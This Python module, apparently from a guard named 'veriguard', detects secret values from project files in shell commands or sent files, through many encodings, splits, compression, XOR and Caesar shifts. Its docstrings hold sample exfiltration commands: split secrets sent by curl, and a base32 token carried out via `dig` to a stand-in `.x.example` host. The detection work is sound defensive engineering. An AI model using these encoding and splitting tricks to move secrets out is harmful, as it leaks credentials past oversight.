"""The values the project's secret files hold, and whether a text carries one: typed into a command (whole, split by
quotes, variables or escapes, encoded), or held by a file a command sends (a copy made where no command of the guard's
saw it: by the project's own code, by approved inline code, by a parallel call).

Spellings looked for: the value itself, reversed and in ROT13, its hex and URL-quoted forms (ignoring case), its base64 at each
of the three alignments (the characters that do not depend on its neighbours); in a command's text also with quotes,
backslashes and blanks taken out, ANSI-C and URL escapes decoded, and covered by up to COVER_PIECES pieces of at least
COVER_MIN characters found anywhere in it (`A=sk-live-4f9a; B=8b7c6d1e; curl -H "X: $A$B"`), and with its letters and
digits shifted (a Caesar shift). Every token of a text that decodes (base64, base32, base85, Ascii85, hex with or without
separators, lists of byte values in decimal, octal or bits) is decoded, then opened where it is compressed (gzip, zlib,
bzip2, xz), twice over (base64 of base64), and the results looked through too: a spelling is found by decoding what is
there, not by listing the value's encodings. Defence in depth: a value enciphered with a key, or built by code, is not
seen; a file that cannot be read (opaque) is told apart instead.
"""
from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import functools
import html
import io
import itertools
import lzma
import re
import tarfile
import urllib.parse
import zipfile
import zlib
from dataclasses import dataclass
from typing import Callable, Iterator

COVER_MIN = 4          # characters of each piece of a value split in a command's text
COVER_PIECES = 4       # pieces at most
# in a short text (at most COVER_SHORT_TEXT letters and digits), pieces of COVER_SHORT_MIN, the last of 2
# (`?a=Zq7&b=w3e&c=9r`): a longer text holds most 3-letter pieces of any value (a 240 KB here-document of base64 holds
# them all), so there they are below what is looked for
COVER_SHORT_MIN = 3
COVER_SHORT_TEXT = 512
COVER_FROM = 8         # values shorter than this are looked for whole only (every value secret_values keeps)
SHIFT_FROM = 12        # letters and digits a value holds at least to be looked for shifted (_shifted), 4 letters of them
GZIP_BYTES = 1 << 20   # what a gzip file a command sends is read to, decompressed
XOR_BYTES = 4096       # a file up to this size is also read XORed with each key below 32 (its text stays text: not opaque)

# a setting's line, `KEY=`, `export KEY=` or `KEY:`, up to its `=` or `:` ({key}: the key's pattern): a value's key may
# hold `.` and `-` (secret_values), a key a shell sets may not (secret_keys)
_SETTING = r"^\s*(?:export\s+)?{key}\s*[=:]"
_VALUE = re.compile(_SETTING.format(key=r"[A-Za-z_][\w.-]*") + r"\s*(.*?)\s*$", re.M)
_KEY = re.compile(_SETTING.format(key=r"([A-Za-z_]\w*)"), re.M)
_TOKEN = re.compile(r"[A-Za-z0-9+/_\-.~@:]{20,}")
_ALNUM = re.compile(r"[\W_]+")
_QUOTES = re.compile(r"[\s'\"\\`]+")
_ESCAPE = re.compile(r"\\(x[0-9A-Fa-f]{1,2}|u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8}|0?[0-7]{1,3})")

DECODE_MIN = 12        # characters of a token tried as an encoding (8 bytes of base64 or base32 at least)
DECODE_TOKENS = 64     # tokens of one text decoded at most
DECODE_DEPTH = 2       # decodings stacked (base64 of base64, base64 of a bzip2 file)
_BASE = re.compile(r"[A-Za-z0-9+/_\-]{%d,}={0,6}" % DECODE_MIN)      # base64 (both alphabets), base32, hex
_B85 = re.compile(r"(?:<~)?[!-~]{%d,}(?:~>)?" % DECODE_MIN)         # base85 and Ascii85 (no blanks)
_LISTED = re.compile(r"[0-9A-Fa-fx\\:,;.\s\-]{16,}")      # a run of hex digits or of byte values, with separators
_HEX_MARKS = re.compile(r"0x|\\x|[\s:,;.\-]")
_HEX_DIGITS = re.compile(r"[0-9A-Fa-f]+")
_NUMBER = re.compile(r"\d+")
_NOT_LIST = re.compile(r"[A-Za-z\\]")
_B85_SPLIT = re.compile(r"['\"\\,./:\[\]]")     # not in base85's alphabet (Ascii85's tokens are split at quotes too)
_XOR_TABLES = [bytes(c ^ key for c in range(256)) for key in range(1, 32)]
_WORD = re.compile(r"[a-z_\-]+")
DECODE_CHARS = 16 * 1024


def secret_values(text: str) -> set[str]:
    """What a secret file holds that a command's text could carry: each setting's value (`KEY=VALUE`, `KEY: VALUE`,
    quotes taken off) of at least 8 characters holding a digit or a character other than a letter, and each run of 20
    or more key-like characters holding a letter and a digit (a PEM body's lines, a JSON key's token)."""
    values = {v.strip("\"'") for v in _VALUE.findall(text)}
    found = {v for v in values if len(v) >= 8 and not v.isalpha() and " " not in v}
    found |= {t for t in _TOKEN.findall(text) if any(c.isdigit() for c in t) and any(c.isalpha() for c in t)}
    return found


def secret_keys(text: str) -> list[str]:
    """The keys of a secret file's settings (`KEY=`, `export KEY=`, `KEY:`) that are shell names, in their order: the
    names a command that sources or evaluates it sets."""
    return _KEY.findall(text)


@dataclass(frozen=True)
class Needles:
    """A value's spellings: `folded` compared ignoring case, `exact` (base64) as they are."""

    value: str
    folded: tuple[str, ...]
    exact: tuple[str, ...]

    def found_in(self, text: str, folded: str) -> bool:
        return any(n in folded for n in self.folded) or any(n in text for n in self.exact)


def needles(value: str) -> Needles:
    raw = value.encode()
    folded = {value, value[::-1], raw.hex(), urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value),
              codecs.encode(value, "rot13")}
    exact = set()
    for pad in range(3):
        encoded = base64.b64encode(b"\0" * pad + raw).decode()
        core = encoded[-(-8 * pad // 6):(8 * (pad + len(raw))) // 6]
        if len(core) >= 8:
            exact |= {core, core.replace("+", "-").replace("/", "_")}
    return Needles(value, tuple(n.casefold() for n in folded if len(n) >= 8), tuple(exact))


def _decoded(text: str) -> str:
    """`text` with ANSI-C escapes (`$'\\x34'`, printf's `\\064`), HTML's character references (`&#115;`) and URL escapes
    (`%2D`, and `%252D` quoted twice: up to three times) decoded."""
    def one(m: re.Match[str]) -> str:
        body = m.group(1)
        try:
            return chr(int(body[1:], 16) if body[0] in "xuU" else int(body, 8))
        except (ValueError, OverflowError):
            return m.group(0)
    text = html.unescape(_ESCAPE.sub(one, text))
    for _ in range(3):
        unquoted = urllib.parse.unquote(text)
        if unquoted == text:
            break
        text = unquoted
    return text


def command_spellings(command: str) -> list[str]:
    """The texts a command's words may join into: as written, without quotes, backslashes and blanks, and decoded."""
    bare = _QUOTES.sub("", command)
    decoded = _decoded(command)
    return list(dict.fromkeys([command, bare, decoded, _QUOTES.sub("", decoded)]))


@dataclass(frozen=True)
class Spellings:
    """A command's spellings (command_spellings), made once a command and matched against every secret file's values:
    `texts` as (text, its casefold); `cover` the letters and digits, folded, of the text looked through for a value in
    pieces (covered): the second distinct spelling, which is the text without quotes and blanks where the command
    holds one of them, else its decoded text, if it differs."""

    texts: tuple[tuple[str, str], ...]
    cover: tuple[str, ...]
    shifted: tuple[str, ...] = ()     # the letters and digits, folded, looked through for a value shifted (_shifted),
                                      # as _shift_coded writes them


def spellings(command: str) -> Spellings:
    texts = command_spellings(command)
    joined = [text.replace(".", "") for text in texts[:1]]    # a token cut into labels: `dig ONSWG4TF.OQYTEMZU.x.example`
    decoded = list(dict.fromkeys(d for text in texts + joined for d in decoded_texts(text)))
    alnums = [_alnum(t) for t in texts[:2]]     # the second is often the first again (_alnum drops quotes and blanks)
    return Spellings(tuple((t, t.casefold()) for t in texts + decoded), tuple(alnums[1:2]),
                     tuple(_shift_coded(t) for t in dict.fromkeys(alnums)))


def _alnum(text: str) -> str:
    return _ALNUM.sub("", text.casefold())


def covered(value: str, text: str) -> bool:
    """Whether `value`'s letters and digits are the join of at most COVER_PIECES pieces of at least COVER_MIN
    characters, each found among `text`'s letters and digits (ignoring case), longest piece first (punctuation between
    pieces may be written anywhere: `K1=sk-live; K2=4f9a8b7c; K3=6d1e; curl -d "$K1-$K2$K3"`)."""
    return len(value) >= COVER_FROM and _covered(_alnum(value), _alnum(text))


def _covered(value: str, text: str) -> bool:
    """covered, on `value`'s and `text`'s letters and digits, folded (_alnum)."""
    short = len(text) <= COVER_SHORT_TEXT
    least = COVER_SHORT_MIN if short else COVER_MIN
    at, pieces = 0, 0
    while at < len(value):
        need = 2 if short and pieces and len(value) - at == 2 else least
        if pieces == COVER_PIECES or len(value) - at < need or value[at:at + need] not in text:
            return False
        end = at + need
        while end < len(value) and value[at:end + 1] in text:
            end += 1
        at, pieces = end, pieces + 1
    return True


def in_command(values: list[Needles], command: str) -> str | None:
    """The value (of `values`) the command's text carries, in any spelling it is looked for in; None if none."""
    return in_spellings(values, spellings(command))


def in_spellings(values: list[Needles], spelled: Spellings) -> str | None:
    """in_command, on a command's spellings made once (spellings)."""
    for n in values:
        if any(n.found_in(t, f) for t, f in spelled.texts) or (
                len(n.value) >= COVER_FROM and any(_covered(_alnum(n.value), c) for c in spelled.cover)):
            return n.value
    for n in values:
        bare = _alnum(n.value)
        if len(bare) >= SHIFT_FROM and sum(c.isalpha() for c in bare) >= 4 and bare.isascii() and any(
                _shift_pattern(v).search(t) for t in spelled.shifted
                for v in (bare, bare[::-1])):
            return n.value
    return None


def _shifted(value: str, text: str) -> bool:
    """Whether `value` (ASCII letters and digits, folded) is in `text` with each letter shifted by one amount and each
    digit by another (a Caesar shift, ROT-N): the first letter and the first digit give the amounts at each place."""
    return _shift_pattern(value).search(_shift_coded(text)) is not None


def _shift_coded(text: str) -> str:
    """`text` with each ASCII digit written as its distance (mod 10, as a digit) from the ASCII digit before it, each
    other ASCII character (a letter) as its distance (mod 26, as a letter) from the one before it, and every other
    character as NUL: a window of `text` holds a value shifted (_shifted) exactly where its characters are of the
    value's kinds and its distances after the first letter and the first digit are the value's (_shift_pattern), which
    one search finds in a time linear in `text`."""
    out, letter, digit = [], 0, 0
    for c in text:
        o = ord(c)
        if 48 <= o <= 57:
            out.append(chr(48 + (o - digit) % 10))
            digit = o
        elif o < 128:
            out.append(chr(97 + (o - letter) % 26))
            letter = o
        else:
            out.append("\0")
    return "".join(out)


@functools.lru_cache(maxsize=4096)
def _shift_pattern(value: str) -> re.Pattern[str]:
    """The pattern of `value` (ASCII) shifted, in _shift_coded text: its first letter any letter and its first digit any
    digit (their distances reach outside the window), each later one its distance from the one before."""
    coded = _shift_coded(value)
    first_letter = next((i for i, c in enumerate(value) if not c.isdigit()), -1)
    first_digit = next((i for i, c in enumerate(value) if c.isdigit()), -1)
    return re.compile("".join("[a-z]" if i == first_letter else "[0-9]" if i == first_digit else re.escape(c)
                              for i, c in enumerate(coded)))


def file_texts(data: bytes) -> list[tuple[str, str]]:
    """(text, its casefold) of a file's bytes, of what a compressed file or an archive holds (gzip, bzip2, xz, zip, tar:
    opened), and of the tokens in them that decode (decoded_texts): made once a file, then matched against every secret
    file's values (in_texts)."""
    return blob_texts(opened(data))


def blob_texts(blobs: list[bytes]) -> list[tuple[str, str]]:
    """file_texts, on a file's bytes opened once (opened)."""
    texts = [blob.decode("utf-8", "replace") for blob in blobs]
    # tokens are decoded in text only: binary bytes are judged opaque where no format is known (opaque)
    texts += [d for blob, text in zip(blobs, texts) if not _binary(blob) for d in decoded_texts(text)]
    texts += [blob.translate(table).decode("utf-8", "replace") for blob in blobs if len(blob) <= XOR_BYTES
              for table in _XOR_TABLES]
    return [(text, text.casefold()) for text in texts]


def opened(data: bytes, depth: int = DECODE_DEPTH) -> list[bytes]:
    """`data`, and what it holds where it is a compressed stream or an archive this module opens (each up to
    GZIP_BYTES, nested up to `depth`)."""
    return [blob for blob, _ in opened_held(data, depth)]


def opened_held(data: bytes, depth: int = DECODE_DEPTH) -> list[tuple[bytes, bool | None]]:
    """opened, each with whether it held something (_unpacked found something in it); None where it was left unopened
    (nested `depth` deep)."""
    inner = _unpacked(data)
    found: list[tuple[bytes, bool | None]] = [(data, bool(inner))]
    for blob in inner:
        found += opened_held(blob, depth - 1) if depth > 1 else [(blob, None)]
    return found


def _unpacked(data: bytes) -> list[bytes]:
    """What a compressed stream (gzip, zlib, bzip2, xz, lzma) or an archive (zip, tar) holds; [] for other bytes."""
    if data[:2] == b"\x1f\x8b":
        return _inflated(lambda: zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(data, GZIP_BYTES))
    if data[:1] == b"\x78" and len(data) > 2 and int.from_bytes(data[:2], "big") % 31 == 0:
        return _inflated(lambda: zlib.decompressobj().decompress(data, GZIP_BYTES))
    if data[:3] == b"BZh":
        return _inflated(lambda: bz2.BZ2Decompressor().decompress(data, GZIP_BYTES))
    if data[:6] == b"\xfd7zXZ\x00" or data[:3] == b"\x5d\x00\x00":
        return _inflated(lambda: lzma.LZMADecompressor().decompress(data, GZIP_BYTES))
    if data[:4] == b"PK\x03\x04":
        return _members(lambda: _zip_members(data))
    if data[257:262] == b"ustar":
        return _members(lambda: _tar_members(data))
    return []


def _inflated(run: Callable[[], bytes]) -> list[bytes]:
    try:
        return [run()]
    except (zlib.error, OSError, EOFError, ValueError, lzma.LZMAError):
        return []


def _members(run: Callable[[], list[bytes]]) -> list[bytes]:
    try:
        return run()
    except (zipfile.BadZipFile, tarfile.TarError, OSError, EOFError, ValueError, RuntimeError, NotImplementedError,
            zlib.error, lzma.LZMAError):
        return [UNREADABLE]


UNREADABLE = b"\x00veriguard: an archive member that could not be read\x00"   # stands for a member kept from view
_ARCHIVE_MEMBERS = 32


def _zip_members(data: bytes) -> list[bytes]:
    """The members of a zip file, walked by their local headers (the start of a file cut at _TYPED_BYTES has no central
    directory): stored, deflated, bzip2 and xz members opened; an enciphered member or another method is UNREADABLE.
    A member cut short ends the walk."""
    found: list[bytes] = []
    at = 0
    while data[at:at + 4] == b"PK\x03\x04" and len(found) < _ARCHIVE_MEMBERS:
        if len(data) < at + 30:
            break
        flags, method = int.from_bytes(data[at + 6:at + 8], "little"), int.from_bytes(data[at + 8:at + 10], "little")
        size = int.from_bytes(data[at + 18:at + 22], "little")
        start = at + 30 + int.from_bytes(data[at + 26:at + 28], "little") + int.from_bytes(data[at + 28:at + 30], "little")
        if flags & 0x1:
            return [UNREADABLE]
        body = data[start:start + size] if size and not flags & 0x8 else data[start:]
        if method == 0:
            found.append(body)
        elif method == 8:
            d = zlib.decompressobj(-zlib.MAX_WBITS)
            found.append(d.decompress(body, GZIP_BYTES))
            size = size or len(body) - len(d.unused_data)
        elif method == 12:
            found.append(bz2.BZ2Decompressor().decompress(body, GZIP_BYTES))
        else:
            return found + [UNREADABLE]
        if not size or flags & 0x8:
            break       # where the next member starts is told only after this one's data (a data descriptor)
        at = start + size
    return found


def _tar_members(data: bytes) -> list[bytes]:
    """The regular members of a tar file; a member cut short (the start of a long file) ends the walk."""
    found: list[bytes] = []
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as tar:
        try:
            for info in tar:
                if len(found) == _ARCHIVE_MEMBERS:
                    break
                if info.isfile():
                    found.append(data[info.offset_data:info.offset_data + min(info.size, GZIP_BYTES)])
        except (tarfile.TarError, OSError, EOFError):
            if not found:
                raise
    return found


def decoded_texts(text: str, depth: int = DECODE_DEPTH) -> list[str]:
    """The texts that the tokens of `text` decode to (decodings), with what a compressed result holds (opened), each
    again up to `depth` decodings; at most DECODE_TOKENS tokens a text. Garbage decodes too, which is harmless: only a
    secret value's spellings are looked for in the results."""
    found: list[str] = []
    for blob in decodings(text):
        for inner in opened(blob, 1):
            decoded = inner.decode("utf-8", "replace").replace("\x00", "")     # UTF-16's zero bytes too
            found.append(decoded)
            if depth > 1 and len(decoded) >= DECODE_MIN and not _binary(inner):
                found += decoded_texts(decoded, depth - 1)
    return found


def decodings(text: str) -> Iterator[bytes]:
    """The bytes each token of `text` decodes to, in each encoding it is valid in: DECODE_TOKENS tokens of each kind at
    most, each up to DECODE_CHARS characters; words of lower-case letters alone (`configuration`) are left out."""
    for m in itertools.islice(_tokens(_BASE, text), DECODE_TOKENS):
        yield from _base_decoded(m)
    for m in itertools.islice(_tokens(_B85, text), DECODE_TOKENS):
        for piece in {p for part in _B85_SPLIT.split(m) for p in (part, part.partition("=")[2]) if len(p) >= DECODE_MIN}:
            yield from _b85_decoded(piece)
    yield from itertools.islice(_listed(text), DECODE_TOKENS)


def _tokens(pattern: re.Pattern[str], text: str) -> Iterator[str]:
    return (m.group(0)[:DECODE_CHARS] for m in pattern.finditer(text) if not _WORD.fullmatch(m.group(0)))


def _listed(text: str) -> Iterator[bytes]:
    """The bytes that hex digits with or without separators (`73:6b:2d`, `0x73, 0x6b`, `\\x73`) and lists of byte values
    (decimal, octal, bits: `115,107,45`) in `text` spell: runs of their characters found first (one linear search)."""
    for m in _LISTED.finditer(text):
        run = m.group(0)
        digits = _HEX_DIGITS.match(_HEX_MARKS.sub("", run))     # hex digits, up to what follows them (`….x.example`)
        if digits is not None and len(digits.group(0)) >= 16:
            yield bytes.fromhex(digits.group(0)[:len(digits.group(0)) // 2 * 2])
        numbers = _NUMBER.findall(run)
        if _NOT_LIST.search(run) or not numbers:
            continue
        bits = "".join(numbers)
        if len(bits) >= 48 and len(bits) % 8 == 0 and set(bits) <= {"0", "1"}:
            yield bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
        elif len(numbers) >= 8 and all(len(n) <= 3 and int(n) < 256 for n in numbers):
            yield bytes(int(n) for n in numbers)
            if all(set(n) <= set("01234567") and int(n, 8) < 256 for n in numbers):
                yield bytes(int(n, 8) for n in numbers)


def _base_decoded(token: str) -> Iterator[bytes]:
    bare = token.rstrip("=")
    for alphabet in (None, b"-_"):
        try:
            yield base64.b64decode(bare + "=" * (-len(bare) % 4), altchars=alphabet)
        except (binascii.Error, ValueError):
            pass
    upper = bare.upper()
    decoders: tuple[Callable[[str], bytes], ...] = (base64.b32decode, base64.b32hexdecode)
    for decode in decoders:
        try:
            yield decode(upper + "=" * (-len(upper) % 8))
        except (binascii.Error, ValueError):
            pass


def _b85_decoded(token: str) -> Iterator[bytes]:
    try:
        yield base64.b85decode(token)
    except (binascii.Error, ValueError):
        pass
    try:
        yield base64.a85decode(token, adobe=token.startswith("<~") and token.endswith("~>"))
    except (binascii.Error, ValueError):
        pass


# the first bytes of formats that hold no text to look through but are no container of one either (images, programs,
# documents, media, databases): a send of one is judged by its zones only
_PLAIN_BINARY = (b"\x89PNG", b"\xff\xd8\xff", b"GIF8", b"%PDF", b"\x7fELF", b"\xfe\xed\xfa", b"\xcf\xfa\xed\xfe",
                 b"\xce\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"MZ", b"\x00asm", b"SQLite format 3", b"\x93NUMPY", b"RIFF",
                 b"ID3", b"OggS", b"fLaC", b"wOFF", b"wOF2", b"\x00\x01\x00\x00", b"OTTO", b"PAR1", b"\x1aE\xdf\xa3",
                 b"II*\x00", b"MM\x00*", b"BM", b"\x00\x00\x01\x00",
                 b"\x00\x00\x00\x01Bud1")
# formats that hold data this module cannot open: compressed (zstd, lz4, brotli has no mark), enciphered (openssl enc,
# age, OpenPGP armour), archives (7z, rar)
_SEALED = ((b"\x28\xb5\x2f\xfd", "zstd"), (b"\x04\x22\x4d\x18", "lz4"), (b"Salted__", "openssl enc"),
           (b"age-encryption.org", "age"), (b"-----BEGIN PGP MESSAGE", "OpenPGP"), (b"-----BEGIN AGE", "age"),
           (b"7z\xbc\xaf\x27\x1c", "7z"), (b"Rar!", "rar"), (b"\x1f\x9d", "compress"), (b"\x89LZO", "lzop"))
_TEXT_CONTROLS = bytes(range(9)) + bytes(range(14, 32)) + b"\x7f"
OPAQUE_FROM = 16       # bytes a file holds at least to be judged opaque (a short binary file holds no secret value)


def opaque(data: bytes) -> str | None:
    """Why a file's bytes cannot be looked through for a secret value (a format this module cannot open, an archive
    member that could not be read, or binary bytes of no known format: enciphered or compressed by code), or None
    where they are text or a known format (opened first: what a gzip file or an archive holds is judged too)."""
    return opaque_held(opened_held(data))


def opaque_held(blobs: list[tuple[bytes, bool | None]]) -> str | None:
    """opaque, on a file's bytes opened once (opened_held: a blob known to hold something is not opened again)."""
    for blob, held in blobs:
        if blob == UNREADABLE:
            return "an archive member that cannot be read (enciphered or damaged)"
        if len(blob) < OPAQUE_FROM or (held if held is not None else bool(_unpacked(blob))):
            continue
        sealed = next((name for mark, name in _SEALED if blob.startswith(mark)), None)
        if sealed is not None:
            return f"{sealed} data, which cannot be opened here"
        if blob.startswith(_PLAIN_BINARY) or blob[4:8] == b"ftyp" or blob[2:4] == b"\r\n":   # media, .pyc
            continue
        if _binary(blob):
            return "binary bytes of no known format (compressed or enciphered by code)"
    return None


def _binary(blob: bytes) -> bool:
    """Whether bytes are no text: more than a tenth of the first 4 KB are control bytes or not UTF-8."""
    head = blob[:4096]
    bad = sum(head.count(c) for c in _TEXT_CONTROLS)
    bad += head.decode("utf-8", "replace").count("\ufffd")
    return bad * 10 > len(head)


def in_texts(values: list[Needles], texts: list[tuple[str, str]]) -> str | None:
    """The value (of `values`) a file's texts (file_texts) hold, the first text first; None if none."""
    for text, folded in texts:
        for n in values:
            if n.found_in(text, folded):
                return n.value
    return None


def in_file(values: list[Needles], data: bytes) -> str | None:
    """The value a file's bytes hold (a gzip file's decompressed start too); None if none."""
    return in_texts(values, file_texts(data))
